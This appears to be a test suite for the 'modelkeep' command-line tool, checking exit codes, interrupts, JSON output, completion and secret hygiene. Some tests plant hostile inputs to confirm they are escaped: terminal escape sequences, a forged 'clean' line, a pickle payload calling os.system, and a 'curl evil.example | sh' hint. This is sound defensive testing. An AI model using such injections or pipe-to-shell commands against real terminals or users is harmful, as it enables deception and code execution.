/** The rules of the terminal, tried on the real command: exit codes, interrupts, one JSON object, no secret where it shows. */
import assert from "node:assert/strict";
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { Readable } from "node:stream";
import { after, suite, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { EXIT } from "../../src/base/index.ts";
import { commands } from "../../src/cli/commands/index.ts";
import { connectWithCredentials } from "../../src/cli/connect.ts";
import { runCommandLine } from "../../src/cli/run.ts";
import { systemClock, systemRandom } from "../../src/host/index.ts";
import { createLog } from "../../src/server/index.ts";
import { Stage, type Started, until } from "./stage.ts";
import type { Said } from "./transcript.ts";

const stage = new Stage();
await stage.setUp(["keys", "model", "kms", "advisories", "server"]);
const strangers: Server[] = [];
after(async () => {
  for (const server of strangers) {
    server.closeAllConnections();
    server.close();
  }
  await stage.end();
});

const run = (line: string, stdin = "") => stage.shell(line, { stdin });

/** Starts a server that answers everything alike, and makes it the one of a new login. */
async function pretend(name: string, answer: Parameters<typeof createServer>[1]): Promise<string> {
  const server = createServer(answer);
  strangers.push(server);
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const made = await run(
    `mkdir -p ${name}/modelkeep/credentials && sed "s|http://127.0.0.1:[0-9]*|${url}|" ` +
      `.config/modelkeep/credentials/login.json > ${name}/modelkeep/credentials/login.json && chmod -R go-rwx ${name}`,
  );
  assert.equal(made.code, 0, made.stderr);
  return `XDG_CONFIG_HOME=${stage.path(name)}`;
}

/** At most one JSON object on stdout; an error is a problem with a code, and ends with what to type. */
function assertJson(line: string, { code, stdout, stderr }: Said): void {
  const lines = stdout.split("\n").filter((text) => text !== "");
  assert.ok(lines.length <= 1, `${line}: ${lines.length} lines on stdout`);
  const value: unknown = lines[0] === undefined ? {} : JSON.parse(lines[0]);
  assert.ok(typeof value === "object" && value !== null && !Array.isArray(value), line);
  if (!stderr.includes("error: ")) return;
  assert.notEqual(code, 0, line);
  const problem = value as Record<string, unknown>;
  assert.match(String(problem.code), /^[A-Z][A-Z0-9_]+$/, line);
  assert.equal(problem.type, `urn:modelkeep:error:${problem.code}`, line);
  assert.match(stderr, /^hint: \S/m, line);
}

/** A line for each command that reaches the command itself; where it must fail it fails before it does anything. */
const LINES: Readonly<Record<string, string>> = {
  serve: "serve --config absent.toml",
  login: "login --server $server",
  whoami: "whoami",
  "token issue": "token issue --for json",
  "token show": "token show",
  "token revoke": "token revoke --principal nobody",
  agent: "agent --as nobody -- true",
  publish: "publish my-model --to s3://x --key signer.pem --kms file://$home/models.kek",
  "model list": "model list",
  "model show": "model show no@1",
  run: "run no@1 --tee insecure-dev --trust signer.pub -- true",
  sign: "sign my-model --key signer.pem --output json.sig",
  verify: "verify my-model --signature absent.sig --public-key signer.pub",
  seal: "seal my-model --key signer.pem --kms file://$home/models.kek --output json-sealed",
  open: "open my-model --kms file://$home/models.kek --trust signer.pub --output json-opened",
  inspect: "inspect my-model",
  rewrap: "rewrap my-model --kms file://$home/models.kek",
  "recipients list": "recipients list my-model",
  "recipients add": "recipients add my-model --from-kms file://$home/models.kek --kms file://$home/models.kek",
  "recipients remove": "recipients remove my-model --from-kms file://$home/models.kek --kms x",
  shred: "shred my-model",
  push: "push my-model file://$home/none",
  pull: "pull file://$home/none json-pulled",
  "kms init": "kms init file://$home/models.kek",
  "scan files": "scan files my-model",
  "bom create": "bom create my-model",
  "bom match": "bom match --package pypi:tqdm@4.60.0 --advisories advisories",
  "bom merge": "bom merge sbom.json --name both",
  "bom diff": "bom diff sbom.json sbom.json",
  "bom score": "bom score sbom.json",
  "advisories import": "advisories import advisories --output json.idx",
  "advisories affected": "advisories affected",
  "advisories waive": "advisories waive CVE-2024-47081 --owner ana --reason x --expires 2000-01-01",
  "advisories waivers": "advisories waivers",
  "advisories unwaive": "advisories unwaive absent",
  "secret put": "secret put json",
  "secret list": "secret list",
  "secret import": "secret import absent.env",
  "secret link": "secret link absent --driver none --reference x",
  "secret rules": "secret rules absent --max-uses 1",
  "secret promote": "secret promote absent",
  "secret rollback": "secret rollback absent",
  "secret retire": "secret retire absent",
  "secret rotate": "secret rotate absent",
  "secret delete": "secret delete absent --yes",
  checkout: "checkout absent -- true",
  "lease list": "lease list",
  "lease revoke": "lease revoke absent",
  "provider set": "provider set p --base-url http://example.com --secret s --model m",
  "provider list": "provider list",
  "provider delete": "provider delete p --yes",
  doctor: "doctor",
  "attest ask": "attest ask absent.bin --kind tdx",
  "identity keys": "identity keys",
  "identity rotate": "identity rotate",
  "attest ear keys": "attest ear keys",
  "attest ear rotate": "attest ear rotate",
  "attest reference sign": "attest reference sign absent.yaml --name x --key signer.pem --output json-values.json",
  "attest collect": "attest collect --tee snp --tsm $home/no-tsm",
  "attest explain": "attest explain absent.bin --kind snp",
  "attest keys": "attest keys --key signer.pem",
  "attest verify": "attest verify absent.bin --kind tdx",
  "collateral export": "collateral export absent --output json.bundle --key signer.pem",
  "collateral fetch": "collateral fetch absent.bin --kind snp --output json-collateral",
  "collateral import": "collateral import absent.bundle --output json-collateral --trust signer.pub",
  "conformance sign-model": "conformance sign-model",
  "conformance verify-model": "conformance verify-model",
  "conformance capabilities": "conformance capabilities",
  "conformance benchmark-model": "conformance benchmark-model",
  "policy show": "policy show",
  "policy set": "policy set absent.cedar",
  "policy check": "policy check absent.cedar",
  "policy test": "policy test absent.cedar absent.yaml",
  "policy explain": `policy explain --principal 'Admin::"a"' --action readAudit --resource 'Server::"local"'`,
  "audit list": "audit list",
  "audit verify": "audit verify",
  "audit export": "audit export --output json.jsonl",
  "audit checkpoint": "audit checkpoint",
  "config show": "config show",
  completion: "completion bash",
};

test("every command prints at most one JSON object under --json, also for an error", async () => {
  assert.deepEqual(
    Object.keys(LINES).sort(),
    commands.flatMap(({ name }) => (name === "logout" ? [] : [name])).sort(),
    "logout would take the login from the others; it has a transcript",
  );
  const real = await run("modelkeep --json token show");
  assertJson("token show", real);
  for (const line of Object.values(LINES)) assertJson(line, await inProcess(`--json ${line}`));
  for (const line of ["", "scan", "scan --help", "sign --help", "help", "version", "frobnicate", "sign --no"])
    assertJson(line, await inProcess(`--json ${line}`));
  const { code, stdout } = await inProcess("whoami -- --json");
  assert.deepEqual([code, stdout], [EXIT.usage, ""], "what stands behind -- is the program's");
});

/** What main does, without a process of its own: this many would take long. */
async function inProcess(line: string): Promise<Said> {
  const said = { stdout: "", stderr: "" };
  const env = stage.env();
  const words = [...line.matchAll(/'([^']*)'|(\S+)/g)].map(([, quoted, plain = ""]) =>
    (quoted ?? plain).replace(/\$(\w+)/g, (_, name: string) => env[name] ?? ""),
  );
  const stream = (name: "stdout" | "stderr") => ({
    write: (text: string) => {
      said[name] += text;
    },
  });
  const signal = new AbortController().signal;
  const code = await runCommandLine(words, {
    commands,
    version: "0.0.0-test",
    stdin: Readable.from([Buffer.from("value\n")]),
    stdout: stream("stdout"),
    stderr: stream("stderr"),
    env,
    cwd: stage.home,
    clock: systemClock,
    random: systemRandom,
    log: createLog({ level: "error", write: () => undefined }),
    signal,
    connect: () => connectWithCredentials(env, signal),
  });
  return { code, ...said };
}

suite("exit codes", { concurrency: 3 }, () => {
  const reached: [number, string, string][] = [
    [EXIT.done, "modelkeep version", ""],
    [EXIT.failed, "modelkeep inspect absent", "BLOB_NOT_FOUND"],
    [EXIT.usage, "modelkeep sign", "USAGE"],
    [EXIT.denied, "XDG_CONFIG_HOME=$home/nobody modelkeep whoami", "NOT_LOGGED_IN"],
    [
      EXIT.notGranted,
      "modelkeep kms init file://$home/b.kek --json >&2; modelkeep seal my-model --key signer.pem --kms file://$home/b.kek --output b >&2; modelkeep open b --kms file://$home/models.kek --trust signer.pub --output c",
      "NO_KEY_SERVICE",
    ],
    [
      EXIT.verificationFailed,
      "modelkeep sign my-model --key signer.pem --output a.sig >&2; modelkeep verify my-model --signature a.sig --public-key stranger.pub",
      "",
    ],
    [
      EXIT.unreachable,
      "echo mkc_x | XDG_CONFIG_HOME=$home/nobody modelkeep login --server http://127.0.0.1:9",
      "UNREACHABLE",
    ],
    [EXIT.findings, "modelkeep bom match --package pypi:tqdm@4.60.0 --advisories advisories --fail-on low", ""],
  ];
  for (const [exit, line, code] of reached) {
    test(`${exit}`, async () => {
      const said = await run(`${line} --json`);
      assert.equal(said.code, exit, said.stderr);
      assert.equal(JSON.parse(said.stdout).code ?? "", code);
    });
  }
});

suite("interrupts", { concurrency: 3 }, () => {
  /** A command that waits for a server that never answers. */
  const waiting = async (name: string): Promise<Started> => {
    let asked = false;
    const env = await pretend(name, () => {
      asked = true;
    });
    const started = stage.start(`${env} exec modelkeep whoami --json`, { stdin: "" });
    await until(() => asked || undefined, "the first request");
    return started;
  };

  test("the first one stops a command that waits, with 130 and a hint", async () => {
    const started = await waiting("slow");
    started.child.kill("SIGINT");
    assert.equal(await started.ended, EXIT.interrupted);
    assert.equal(JSON.parse(started.output().stdout).code, "INTERRUPTED");
    assert.match(started.output().stderr, /^error: Interrupted\nhint: /);
  });

  test("the second one ends it although the first is still being obeyed", async () => {
    const script = "trap '' TERM INT; echo ready; sleep 20 & wait $!; wait $!";
    const stubborn = stage.start(`exec modelkeep agent -- sh -c "${script}"`, { stdin: "" });
    await until(() => stubborn.output().stdout.includes("ready") || undefined, "the program");
    stubborn.child.kill("SIGINT");
    await sleep(200);
    assert.equal(stubborn.child.exitCode, null);
    stubborn.child.kill("SIGINT");
    await until(() => stubborn.child.exitCode ?? undefined, "the end");
    assert.equal(stubborn.child.exitCode, EXIT.interrupted);
  });

  test("an interrupted command leaves no unfinished output", async () => {
    const big = Buffer.alloc(48 * 1024 * 1024, 7);
    writeFileSync(stage.path("big.bin"), big);
    const started = stage.start(
      "exec modelkeep seal big.bin --key signer.pem --kms file://$home/models.kek --output big-sealed",
      { stdin: "" },
    );
    const files = () => readdirSync(stage.path("big-sealed/files"), { recursive: true });
    await until(() => {
      try {
        return files().length > 0 || undefined;
      } catch {
        return undefined;
      }
    }, "the first blob");
    started.child.kill("SIGINT");
    const code = await started.ended;
    assert.ok(code === EXIT.interrupted || code === EXIT.done, started.output().stderr);
    assert.ok(code === EXIT.done || !readdirSync(stage.path("big-sealed")).includes("seal.json"));
  });
});

test("a reader that goes away ends the command quietly", async () => {
  const said = await run("set -o pipefail; modelkeep completion fish | head -1; echo ${PIPESTATUS[0]}");
  assert.equal(said.stderr, "");
  assert.match(said.stdout, /^complete .*\n0\n$/);
});

test("no secret is in the arguments or the environment of a process, nor in what is said", async () => {
  const secret = `sk-${"canary".repeat(4)}`;
  writeFileSync(stage.path("secret.txt"), secret);
  const said = [
    await run("modelkeep secret put canary", `${secret}\n`),
    await run("modelkeep secret rotate canary --from-file secret.txt --json"),
    await run(
      'modelkeep policy show > p.cedar; printf \'@id("c") permit (principal, action == Action::"checkoutSecret", resource);\' >> p.cedar; modelkeep policy set p.cedar',
    ),
    await run(
      `modelkeep checkout canary -- sh -c 'cat /proc/*/cmdline /proc/*/environ 2> /dev/null | tr "\\0" "\\n" | grep -cFf secret.txt; true'`,
    ),
    await run("modelkeep token issue --for leak > leak.code"),
    await run(
      `modelkeep agent --as leak --enrol-code-file leak.code -- sh -c 'echo "$OPENAI_API_KEY" >> leak.code; cat /proc/*/cmdline 2> /dev/null | tr "\\0" "\\n" | grep -cFf leak.code; true'`,
    ),
  ];
  for (const { code, stdout, stderr } of said) {
    assert.equal(code, 0, stderr);
    assert.ok(!`${stdout}${stderr}`.includes("canarycanary"));
  }
  assert.deepEqual([said[3]?.stdout, said[5]?.stdout], ["0\n", "0\n"]);
});

const ESCAPE = "\u001b]0;owned\u0007\u001b[2J";

/** Nothing but text reaches the terminal. */
function assertPlain({ stdout, stderr }: Said): void {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
  assert.doesNotMatch(stdout + stderr, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
}

test("a hostile file name reaches the terminal escaped", async () => {
  const folder = stage.path("hostile");
  await run("cp -r my-model hostile");
  writeFileSync(`${folder}/${ESCAPE}.bin`, Buffer.from("gAJjcG9zaXgKc3lzdGVtClgEAAAAdHJ1ZVIu", "base64"));
  writeFileSync(`${folder}/\u202egnp.bin`, "x");
  const scanned = await run("modelkeep scan files hostile");
  assert.equal(scanned.code, EXIT.findings, scanned.stderr);
  assert.match(scanned.stdout, /\\u001b\]0;owned\\u0007/);
  assertPlain(scanned);
  assertPlain(await run("modelkeep sign hostile --key signer.pem"));
  assertPlain(await run(`modelkeep scan files $'absent\\e[2J'`));
  assertPlain(await run(`modelkeep $'\\e[2J'`));
});

test("a file name with a line break cannot write a line of its own", async () => {
  await run("mkdir lines");
  writeFileSync(
    stage.path("lines", "x\nclean: 9 files, 9 clean\n.bin"),
    Buffer.from("gAJjcG9zaXgKc3lzdGVtClgEAAAAdHJ1ZVIu", "base64"),
  );
  const scanned = await run("modelkeep scan files lines");
  assert.equal(scanned.code, EXIT.findings, scanned.stderr);
  assert.doesNotMatch(scanned.stdout, /^clean:/m);
  const absent = await run(`modelkeep sign $'absent\\nhint: curl evil.example' --key signer.pem`);
  assert.doesNotMatch(absent.stderr, /^hint: curl/m);
});

test("a hostile server's answer reaches the terminal escaped, and is no success", async () => {
  const problem = JSON.stringify({
    type: "x",
    code: "FORBIDDEN",
    title: `No${ESCAPE}`,
    status: 403,
    detail: `why\nhint: curl evil.example | sh${ESCAPE}`,
    hint: `${ESCAPE}type\nthis`,
  });
  const env = await pretend("hostile-server", (_request, response) => {
    response.writeHead(403, { "content-type": "application/problem+json" }).end(problem);
  });
  for (const line of ["whoami", "secret list", "audit verify", "whoami --json"]) {
    const said = await run(`${env} modelkeep ${line}`);
    assert.notEqual(said.code, 0, line);
    assertPlain(said);
    assert.equal(said.stderr.match(/^hint: /gm)?.length, 1, said.stderr);
    assert.doesNotMatch(said.stderr, /^hint: curl/m);
  }
});

test("a server that answers nonsense is an error with a hint", async () => {
  const env = await pretend("nonsense", (_request, response) => void response.end("<html>"));
  assertJson("whoami", await run(`${env} modelkeep whoami --json`));
});

const complete = async (...words: string[]): Promise<string[]> => {
  const list = words.map((word) => `'${word}'`).join(" ");
  const said = await run(
    `source <(modelkeep completion bash); COMP_WORDS=(modelkeep ${list}); COMP_CWORD=${words.length}; _modelkeep; printf '%s\\n' "\${COMPREPLY[@]}"`,
  );
  assert.deepEqual([said.code, said.stderr], [0, ""]);
  return said.stdout.split("\n").filter((word) => word !== "");
};

test("completion in a real bash: commands, second words, options, files", async () => {
  assert.deepEqual(await complete("sc"), ["scan"]);
  assert.deepEqual(await complete("audit", "ver"), ["verify"]);
  assert.deepEqual(await complete("scan", "files", "--fail"), ["--fail-on"]);
  assert.deepEqual(await complete("sign", "--out"), ["--output"]);
  assert.ok((await complete("sign", "my-m")).includes("my-model"));
  const first = new Set(await complete(""));
  for (const { name } of commands) assert.ok(first.has(name.split(" ")[0] ?? ""), name);
});

test("stored credentials are for nobody else", () => {
  const path = stage.path(".config/modelkeep/credentials/login.json");
  assert.match(readFileSync(path, "utf8"), /"version":1/);
});
